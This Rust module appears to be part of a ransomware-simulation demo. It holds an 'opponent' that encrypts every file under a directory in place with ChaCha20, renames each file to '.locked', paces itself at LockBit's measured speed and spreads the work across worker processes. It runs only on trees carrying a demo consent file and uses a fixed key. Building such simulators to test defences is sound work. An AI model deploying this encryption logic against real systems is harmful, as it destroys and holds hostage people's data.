//! The opponent: encrypts each file of its tree in place and renames it, at the pace of LockBit.

use std::fs::{self, OpenOptions};
use std::io::{Read, Seek, SeekFrom, Write};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::thread::sleep;
use std::time::{Duration, Instant};

use chacha20::ChaCha20;
use chacha20::cipher::{KeyIvInit, StreamCipher};

use crate::{Failure, Result};

/// 25,000 files a minute, as measured of LockBit: 2.4 ms a file.
const PACE: Duration = Duration::from_micros(2_400);
/// Left in a tree that may be encrypted: the opponent refuses any other.
pub const CONSENT: &str = ".made-for-the-demo";

/// Encrypts every file below `tree` with `workers` processes.
pub fn encrypt(tree: &Path, workers: usize) -> Result<()> {
    if !tree.join(CONSENT).is_file() {
        return Err(Failure::new(format!("{} was not made for this", tree.display())));
    }
    let mut files = Vec::new();
    list(tree, &mut files)?;
    fastrand::Rng::with_seed(7).shuffle(&mut files);
    if workers > 1 {
        return spread(tree, workers);
    }
    let share = std::env::var("DEMO_SHARE").ok().and_then(|share| {
        let (own, of) = share.split_once('/')?;
        Some((own.parse::<usize>().ok()?, of.parse::<usize>().ok()?.max(1)))
    });
    let (own, of) = share.unwrap_or((0, 1));
    for file in files.into_iter().skip(own).step_by(of) {
        let start = Instant::now();
        encrypt_file(&file).map_err(Failure::because(format!("{}", file.display())))?;
        sleep(PACE.saturating_sub(start.elapsed()));
    }
    Ok(())
}

fn spread(tree: &Path, workers: usize) -> Result<()> {
    let program = std::env::current_exe().map_err(Failure::because("who am I"))?;
    let start = |own: usize| {
        Command::new(&program)
            .arg("opponent")
            .arg(tree)
            .arg("1")
            .env("DEMO_SHARE", format!("{own}/{workers}"))
            .spawn()
    };
    let children: std::io::Result<Vec<_>> = (0..workers).map(start).collect();
    for mut child in children.map_err(Failure::because("cannot start a worker"))? {
        child.wait().map_err(Failure::because("cannot wait for a worker"))?;
    }
    Ok(())
}

fn encrypt_file(path: &Path) -> std::io::Result<()> {
    let mut file = OpenOptions::new().read(true).write(true).open(path)?;
    let mut bytes = Vec::new();
    file.read_to_end(&mut bytes)?;
    ChaCha20::new(&[7; 32].into(), &[9; 12].into()).apply_keystream(&mut bytes);
    file.seek(SeekFrom::Start(0))?;
    file.write_all(&bytes)?;
    file.set_len(bytes.len() as u64)?;
    let mut locked = path.as_os_str().to_owned();
    locked.push(".locked");
    fs::rename(path, PathBuf::from(locked))
}

fn list(folder: &Path, files: &mut Vec<PathBuf>) -> Result<()> {
    let failed = || Failure::because::<std::io::Error>(format!("cannot list {}", folder.display()));
    let mut entries: Vec<_> = fs::read_dir(folder)
        .and_then(Iterator::collect::<std::io::Result<Vec<_>>>)
        .map_err(failed())?;
    entries.sort_by_key(fs::DirEntry::path);
    for entry in entries {
        let path = entry.path();
        if path.is_dir() {
            list(&path, files)?;
        } else if path.file_name().is_some_and(|name| name != CONSENT) {
            files.push(path);
        }
    }
    Ok(())
}
